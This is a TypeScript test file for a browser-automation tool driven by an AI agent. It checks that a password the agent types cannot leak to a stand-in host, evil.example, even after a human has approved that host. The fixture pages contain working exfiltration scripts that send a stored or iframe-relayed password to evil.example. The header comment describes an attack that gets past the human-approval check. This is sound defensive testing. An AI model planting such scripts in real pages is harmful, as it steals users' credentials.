// A host the human allowed for what the agent read is not allowed a password typed after (core/guardState.ts
// recordTypedSecret). Found by an attack review: the human let evil.example receive requests after a read of
// github.com (a taint question about navigating there); the agent then typed a declared secret on login.example,
// whose page kept it in storage; a later page of login.example read it back and sent it to evil.example, judged
// against the hosts allowed before the secret existed. Assertions are on what evil.example received.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { waitFor } from '../helpers/waitFor.ts';

let site: Fixture;
let tw: InProcessBrowser;
const secret = 'pw-allowed-host-5521';
const url = (host: string, path: string) => site.url(host, path);
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

before(async () => {
  const sendKept = (delayMs: number) =>
    `<script>setTimeout(() => fetch('https://evil.example:${site.port}/k?d=' + encodeURIComponent(localStorage.getItem('kept') || 'none'), { mode: 'no-cors' }), ${delayMs});</script>`;
  site = await startFixture(
    {
      '/settings/profile': (_req, _body, res) => html(res, '<title>Profile</title><p>profile</p>'),
      '/blog': (_req, _body, res) => html(res, '<title>Blog</title><p>a post</p>'),
      '/k': (_req, _body, res) => void res.writeHead(204).end(),
      '/login': (_req, _body, res) =>
        html(
          res,
          `<title>Sign in</title><input type="password" aria-label="Password"><a href="/home">Continue</a>
          <script>document.querySelector('input').addEventListener('input', (e) => localStorage.setItem('kept', e.target.value));</script>`,
        ),
      // A page framing the real login page: the frame hands what is typed to its parent (a compromised or
      // careless login widget), and the page's own button sends it home.
      '/framed': (_req, _body, res) =>
        html(
          res,
          `<title>Framed</title><iframe src="https://login.example:${site.port}/widget" title="Sign in"></iframe>
          <button onclick="fetch('/k?d=' + encodeURIComponent(window.got || 'none'), { mode: 'no-cors' })">Next</button>
          <script>addEventListener('message', (e) => { window.got = e.data; fetch('/k?early=' + encodeURIComponent(e.data), { mode: 'no-cors' }); });</script>`,
        ),
      '/widget': (_req, _body, res) =>
        html(
          res,
          `<title>Widget</title><input type="password" aria-label="Password">
          <script>document.querySelector('input').addEventListener('input', (e) => parent.postMessage(e.target.value, '*'));</script>`,
        ),
      '/home': (_req, _body, res) => html(res, `<title>Home</title><p>Welcome</p>${sendKept(1_000)}`),
      '/account': (_req, _body, res) =>
        html(res, `<title>Account</title><p>Your account</p>${sendKept(500)}${sendKept(2_500)}`),
    },
    { tls: true },
  );
  tw = await startInProcess({ secrets: `LOGIN_PASSWORD@${url('login.example', '')}=${secret}\n` });
});

after(async () => {
  await tw?.close();
  await site?.close();
});

/** Opens the login page and types the declared secret into its password field. */
async function typeTheSecret(mcp: InProcessMcp): Promise<void> {
  await mcp.call('navigate_page', { url: url('login.example', '/login') });
  const snapshot = await mcp.call('take_snapshot');
  const filled = await mcp.call('fill', { ref: refOf(snapshot.text, 'Password'), secret: 'LOGIN_PASSWORD' });
  assert.equal(filled.isError, false, filled.text);
}

test('a host allowed after a read does not take a secret typed later; it is asked about again', async () => {
  const mcp = await tw.connect();
  mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
  try {
    await mcp.call('navigate_page', { url: url('github.com', '/settings/profile') });
    await mcp.call('take_snapshot');
    // The human lets evil.example receive requests for the rest of the session (the read's taint question).
    const allowed = await mcp.call('navigate_page', { url: url('evil.example', '/blog') });
    assert.equal(allowed.isError, false, allowed.text);
    assert.match(
      mcp.human.questions.join('\n'),
      /could be sent to https:\/\/evil\.example:\d+; approving lets that site receive requests/,
    );
    await typeTheSecret(mcp);
    const signedIn = await mcp.call('take_snapshot');
    await mcp.call('click', { ref: refOf(signedIn.text, 'Continue') });
    await pause(3_000);
    await mcp.call('navigate_page', { url: url('login.example', '/account') });
    // Sent 0.5 and 2.5 s after the page loaded: once the action that typed it is long over.
    await pause(4_000);
    const sent = site.seen.filter(
      (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
    );
    assert.deepEqual(sent, [], 'the typed secret reached evil.example');
  } finally {
    await mcp.close();
  }
});

test('a host allowed after the secret, by a question that named only what was read, does not take it', async () => {
  const mcp = await tw.connect();
  mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
  try {
    await mcp.call('navigate_page', { url: url('github.com', '/settings/profile') });
    await mcp.call('take_snapshot');
    await typeTheSecret(mcp);
    // Now the human answers the question about going to evil.example, which names the read on github.com only.
    const asked = mcp.human.questions.length;
    await mcp.call('navigate_page', { url: url('evil.example', '/blog') });
    assert.match(mcp.human.questions.slice(asked).join('\n'), /data read on sensitive https:\/\/github\.com/);
    await mcp.call('navigate_page', { url: url('login.example', '/account') });
    await pause(4_000);
    const sent = site.seen.filter(
      (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
    );
    assert.deepEqual(sent, [], 'the typed secret reached evil.example');
  } finally {
    await mcp.close();
  }
});

test('a secret typed into a login frame does not go to the page framing it, during an action on that page or after', async () => {
  const mcp = await tw.connect();
  mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
  try {
    await mcp.call('navigate_page', { url: url('evil.example', '/framed') });
    let snapshot = await mcp.call('take_snapshot');
    // The frame may still be loading when the page is shown.
    await waitFor('the login frame shown', async () => {
      snapshot = await mcp.call('take_snapshot');
      return /Password/.test(snapshot.text);
    });
    const filled = await mcp.call('fill', {
      ref: refOf(snapshot.text, 'Password'),
      secret: 'LOGIN_PASSWORD',
    });
    assert.equal(filled.isError, false, filled.text);
    await pause(1_000);
    // The agent goes on using the framing page: its button's request is held for the human, who says no.
    const clicked = await mcp.call('click', { ref: refOf((await mcp.call('take_snapshot')).text, 'Next') });
    assert.equal(clicked.isError, false, clicked.text);
    await pause(1_500);
    const sent = site.seen.filter(
      (request) => request.host.startsWith('evil.example:') && request.path.includes(secret),
    );
    assert.deepEqual(sent, [], 'the typed secret reached the framing page');
    assert.match(
      mcp.human.questions.join('\n'),
      /did not predict[\s\S]*evil\.example/,
      'the human was asked',
    );
  } finally {
    await mcp.close();
  }
});
